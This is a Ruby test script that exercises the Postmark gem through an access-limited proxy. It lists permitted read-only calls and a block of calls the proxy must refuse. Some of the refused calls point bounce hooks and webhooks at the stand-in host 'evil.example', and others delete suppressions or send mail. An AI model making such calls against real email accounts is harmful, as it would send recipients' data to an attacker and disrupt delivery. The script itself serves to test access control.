# Drives the official Postmark gem (Debian's ruby-postmark) against a
# portal's base URL, as a client's portal would: every call of a "server
# viewer", and the calls the proxy must refuse.  Prints one JSON line per
# call: what the gem returned, or the error it raised.
#
#   ruby activity.rb HOST PORT PATH_PREFIX PORTAL_KEY

require_relative 'run'

client = portal_client(*ARGV)

msg = '0ac29aee-e1cd-480d-b08d-4f48548ff48d'
inbound = '73e6d360-66eb-11e1-8e72-a8904824019b'
bounce = 4323372036854775807

calls = [
  ['get_messages', -> { client.get_messages }],
  ['get_messages filtered', -> {
    client.get_messages(count: 20, offset: 40, recipient: 'john@example.com',
                        fromemail: 'hello@acme.example', tag: 'welcome-email',
                        status: 'sent', fromdate: '2026-11-01',
                        todate: '2026-11-30')
  }],
  ['get_messages_count', -> { client.get_messages_count }],
  ['get_message', -> { client.get_message(msg) }],
  ['dump_message', -> { client.dump_message(msg) }],
  ['get_opens', -> { client.get_opens(count: 10, offset: 0) }],
  ['get_opens_by_message_id', -> { client.get_opens_by_message_id(msg) }],
  ['get_clicks', -> { client.get_clicks }],
  ['get_clicks_by_message_id', -> { client.get_clicks_by_message_id(msg) }],
  ['get_messages inbound', -> {
    client.get_messages(inbound: true, mailboxhash: 'abc')
  }],
  ['get_message inbound', -> { client.get_message(inbound, inbound: true) }],
  ['delivery_stats', -> { client.delivery_stats }],
  ['get_bounces', -> {
    client.get_bounces(type: 'HardBounce', inactive: false)
  }],
  ['get_bounces of a message', -> { client.get_bounces(messageID: msg) }],
  ['get_bounce', -> { client.get_bounce(bounce) }],
  ['dump_bounce', -> { client.dump_bounce(bounce) }],
  ['get_stats_totals', -> {
    client.get_stats_totals(tag: 'welcome-email', fromdate: '2026-11-01')
  }],
  ['get_stats_counts sends', -> { client.get_stats_counts(:sends) }],
  ['get_stats_counts bounces', -> { client.get_stats_counts(:bounces) }],
  ['get_stats_counts spam', -> {
    client.get_stats_counts(:spam, fromdate: '2026-11-01',
                                   todate: '2026-11-30',
                                   messagestream: 'outbound')
  }],
  ['get_stats_counts tracked', -> {
    client.get_stats_counts(:tracked, tag: 'welcome-email')
  }],
  ['get_stats_counts opens', -> { client.get_stats_counts(:opens) }],
  ['get_stats_counts opens platforms', -> {
    client.get_stats_counts(:opens, type: :platforms)
  }],
  ['get_stats_counts opens emailclients', -> {
    client.get_stats_counts(:opens, type: :emailclients)
  }],
  ['get_stats_counts opens readtimes', -> {
    client.get_stats_counts(:opens, type: :readtimes)
  }],
  ['get_stats_counts clicks', -> { client.get_stats_counts(:clicks) }],
  ['get_stats_counts clicks browserfamilies', -> {
    client.get_stats_counts(:clicks, type: :browserfamilies)
  }],
  ['get_stats_counts clicks platforms', -> {
    client.get_stats_counts(:clicks, type: :platforms)
  }],
  ['get_stats_counts clicks location', -> {
    client.get_stats_counts(:clicks, type: :location)
  }],
  ['get_message_streams', -> { client.get_message_streams }],
  ['get_message_stream', -> { client.get_message_stream('outbound') }],
  ['dump_suppressions', -> { client.dump_suppressions('outbound') }],
  ['get_bounce of another server', -> { client.get_bounce(692560173) }],

  # what the proxy never lets through
  ['server_info', -> { client.server_info }],
  ['update_server_info', -> {
    client.update_server_info(bounce_hook_url: 'https://evil.example/hook')
  }],
  ['get_webhooks', -> { client.get_webhooks }],
  ['get_webhook', -> { client.get_webhook(1234) }],
  ['create_webhook', -> {
    client.create_webhook(url: 'https://evil.example/hook')
  }],
  ['update_webhook', -> {
    client.update_webhook(1234, url: 'https://evil.example/hook')
  }],
  ['delete_webhook', -> { client.delete_webhook(1234) }],
  ['activate_bounce', -> { client.activate_bounce(bounce) }],
  ['create_suppressions', -> {
    client.create_suppressions('outbound', 'a@example.com')
  }],
  ['delete_suppressions', -> {
    client.delete_suppressions('outbound', 'a@example.com')
  }],
  ['archive_message_stream', -> { client.archive_message_stream('outbound') }],
  ['unarchive_message_stream', -> {
    client.unarchive_message_stream('outbound')
  }],
  ['deliver', -> {
    client.deliver(from: 'a@example.com', to: 'b@example.com', subject: 'x',
                   text_body: 'x')
  }],
]

run(calls)
